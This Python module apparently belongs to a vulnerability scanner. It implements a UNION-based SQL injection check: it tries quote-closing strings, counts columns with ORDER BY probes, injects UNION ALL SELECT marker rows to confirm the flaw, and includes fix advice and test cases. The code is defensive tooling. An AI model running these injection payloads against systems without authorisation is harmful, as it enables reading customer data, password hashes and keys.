"""A value becomes part of an SQL query: a second query's result can be joined to the page.

What it looks for
Values behind which an `ORDER BY` can be added (the answer differs between a column that must exist and one that
cannot), from which the number of columns follows, and then a `UNION ALL SELECT` whose row is shown on the page.

Why it matters
Whole tables can be read in a few requests: customers, password hashes, keys, whatever the application's account of
the database may see.

How it is confirmed
The added row consists of random words that the database must join from two halves; the joined word is never sent. It
must appear twice with different words on fresh connections, and must not when the row has one column too many.

How to fix it
Use prepared statements and hand values over as parameters. Give the application's database account access to no more
tables than it needs.

When it may be wrong
Not in practice: nothing but a query language joins the halves. It stays silent where results are not shown.
"""

from __future__ import annotations

from dataclasses import dataclass

from vedette.contract.checkinfo import CheckInfo, Kind, Phase, ProofLevel, Severity
from vedette.contract.exchange import Exchange, Step
from vedette.engine.attack.compare import Model, appears, blocked
from vedette.engine.attack.point import Point, PointKind
from vedette.engine.attack.probe import Candidate, Probe, Proof
from vedette.engine.attack.sql import dialects
from vedette.engine.checks.sqli.example_shop import Page, doubled, leading_integer, shop_example, shop_point

INFO = CheckInfo(
    id="sqli-union",
    title="SQL injection (by a joined query)",
    kind=Kind.ACTIVE,
    phase=Phase.DETECT,
    severity=Severity.CRITICAL,
    proof=ProofLevel.CONFIRMED,
    cwe=(89,),
    cvss31="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
    cvss40="CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N",
    owasp="A03:2021",
    references=(
        "https://owasp.org/www-community/attacks/SQL_Injection",
        "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
    ),
    tags=("injection", "sql"),
    flaw="sql-injection",
    cost=1,
    wants=("odd", "failed", "error:sql"),
    points=("query", "path", "form", "json", "xml", "multipart", "name", "cookie", "header"),
    profiles=("safe", "normal", "full"),
)

CLOSINGS = ("", "'", "%'", '"', ")", "')", "%')", '")', "'))", "))")
"""What may end the value's place in the query, the likeliest first."""

MAX_COLUMNS = 50
ABSENT_COLUMN = (300, 900)
MAX_SINGLE_COLUMNS = 12
"""Up to so many columns the marker is also tried in each alone, for databases that are strict about types."""

SOURCES = {"Oracle": " FROM dual"}


@dataclass(slots=True)
class _Query:
    """The point with what closes its place in the query. `fresh` for the verifier."""

    probe: Probe
    point: Point
    model: Model
    closing: str
    fresh: bool = False
    blocked: bool = False

    async def send(self, text: str) -> tuple[str, Exchange]:
        word = self.probe.rng.word(4)
        payload = f"{self.point.value or '1'}{self.closing} {text}-- {word}"
        exchange = await self.probe.send(self.point, payload, fresh=self.fresh)
        self.blocked = self.blocked or blocked(exchange) or not exchange.usable
        return payload, exchange

    async def columns(self) -> int:
        """The number of columns, by halving; 0 when sorting by an absent column makes no difference."""
        one, first = await self.send("ORDER BY 1")
        absent, other = await self.send(f"ORDER BY {self.probe.rng.integer(*ABSENT_COLUMN)}")
        if self.blocked or self.model.alike(first, other, one, absent):
            return 0
        low, high = 1, MAX_COLUMNS
        while low < high:
            middle = (low + high + 1) // 2
            sent, answer = await self.send(f"ORDER BY {middle}")
            if blocked(answer):
                return 0
            if self.model.alike(answer, other, sent, absent):
                high = middle - 1
            else:
                low = middle
        return low

    async def joined(self, cells: list[str], source: str) -> tuple[str, Exchange]:
        """The query with a row of these cells added, its own rows left out."""
        a, b = self.probe.rng.integer(1000, 4999), self.probe.rng.integer(5000, 9999)
        return await self.send(f"AND {a}={b} UNION ALL SELECT {','.join(cells)}{source}")


async def detect(probe: Probe, point: Point) -> list[Candidate]:
    """One candidate with closing, columns, shown column and the way to join; only for points that react."""
    if not probe.full:
        return []
    model = await probe.baseline(point)
    if not model.stable:
        return []
    for closing in CLOSINGS:
        query = _Query(probe, point, model, closing)
        count = await query.columns()
        found = await _shown(query, count) if count else None
        if found:
            data = {"closing": closing, "columns": count, **found}
            return [Candidate(check=INFO.id, point=point, data=data)]
        if count or query.blocked:
            return []
    return []


async def verify(probe: Probe, candidate: Candidate) -> Proof | None:
    """Two joined words on fresh connections, and a row with one column too many as control."""
    point, data = candidate.point, candidate.data
    if point is None:
        return None
    query = _Query(probe, point, await probe.baseline(point), data["closing"], fresh=True)
    shown: list[Step] = []
    for extra in (0, 0, 1):
        row = _row(probe, data["columns"] + extra, data["column"], data["join"])
        sent, exchange = await query.joined(row.cells, data["source"])
        seen = appears(exchange, row.word, sent)
        if query.blocked or seen == bool(extra):
            return None
        if extra:
            shown.append(Step("One column too many", exchange, (), "The joined word is absent.", True, (sent,)))
        else:
            note = "The database joined the two halves into one word."
            shown.append(Step("Row added to the result", exchange, (row.word,), note, request_marks=(sent,)))
    detail = f"A row of ours was added to the query's {data['columns']} columns and shown: {shown[0].marks[0]}."
    return Proof(level=ProofLevel.CONFIRMED, detail=detail, steps=tuple(shown))


@dataclass(frozen=True, slots=True)
class _Row:
    """The cells of an added row, and the word that the database makes of the halves in it."""

    cells: list[str]
    word: str


def _row(probe: Probe, count: int, column: int, join: str) -> _Row:
    """A row of NULLs with the halves at `column`; at every column when it is -1."""
    left, right = probe.rng.word(6), probe.rng.word(6)
    cell = join.format(a=f"'{left}'", b=f"'{right}'")
    return _Row([cell if column in (-1, index) else "NULL" for index in range(count)], left + right)


async def _shown(query: _Query, count: int) -> dict[str, str | int] | None:
    """Which column shows the halves joined, and how: all at once first, then each alone for strict databases."""
    named = dialects(*sorted(query.probe.technologies))
    forms = tuple(dict.fromkeys((dialect.join, SOURCES.get(dialect.name, "")) for dialect in named))
    alone = range(count if 1 < count <= MAX_SINGLE_COLUMNS else 0)
    for column in (-1, *alone):
        for join, source in forms:
            row = _row(query.probe, count, column, join)
            sent, exchange = await query.joined(row.cells, source)
            if query.blocked:
                return None
            if appears(exchange, row.word, sent):
                return {"column": column, "join": join, "source": source}
    return None


def _query(value: str) -> Point:
    return shop_point(PointKind.QUERY, "v", value)


EXAMPLES = (
    shop_example("number", Page(sql="select * from item where id={}", errors="page"), _query("2")),
    shop_example("one column", Page(sql="select name from item where id={}", errors="page"), _query("2")),
    shop_example("text", Page(sql="select name, price from item where shelf='{}'", errors="page"), _query("kitchen")),
    shop_example(
        "pattern in parentheses", Page(sql="select * from item where (name like '%{}%')", errors="page"), _query("ke")
    ),
    shop_example(
        "form",
        Page(sql="select * from account where login='{}' and id>0", errors="page"),
        shop_point(PointKind.FORM, "v", "mira"),
    ),
    shop_example(
        "nothing of the row is shown",
        Page(sql="select * from item where id={}", errors="page", show="found"),
        _query("2"),
        vulnerable=False,
    ),
    shop_example("bound parameter", Page(sql="select * from item where id=?"), _query("2"), vulnerable=False),
    shop_example(
        "only the leading number is read",
        Page(sql="select * from item where id={}", read=leading_integer, show="echo"),
        _query("2"),
        vulnerable=False,
    ),
    shop_example(
        "quotes are escaped",
        Page(sql="select * from item where shelf='{}'", read=doubled, show="echo"),
        _query("kitchen"),
        vulnerable=False,
    ),
)
